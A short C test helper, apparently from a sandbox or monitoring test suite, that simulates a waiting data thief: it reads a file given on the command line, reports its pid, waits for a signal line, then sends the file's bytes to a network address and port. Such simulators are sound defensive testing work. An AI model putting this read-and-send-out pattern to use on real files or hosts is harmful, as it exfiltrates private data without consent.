/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * A thief who waits: reads a file into memory and closes it (with --open: opens it only), says so,
 * and sends BYTES of what it has, zeros if it read nothing, once it is told to.
 */
#include "act.h"

int main(int argc, char **argv)
{
	int opens = take_flag(&argc, argv, "--open");
	struct truth taken = {0}, sent = {0};

	begin(&argc, argv);
	if (argc != 5)
		usage("send_later PATH ADDRESS PORT BYTES [--open]");
	int fd = open_file(argv[1], O_RDONLY);
	long long bytes = positive(argv[4]);
	char *buffer = calloc(1, bytes);

	if (!buffer)
		die("calloc");
	if (!opens) {
		while (taken.bytes < bytes) {
			long got = read(fd, buffer + taken.bytes, bytes - taken.bytes);

			if (!got)
				break;
			count(&taken, got);
		}
		close(fd);
	}
	printf("pid=%d read=%lld\n", getpid(), taken.bytes);
	fflush(stdout);
	wait_for_line();
	send_all(connect_to(argv[2], number(argv[3]), SOCK_STREAM), buffer, bytes, &sent);
	tell(&sent);
	return 0;
}
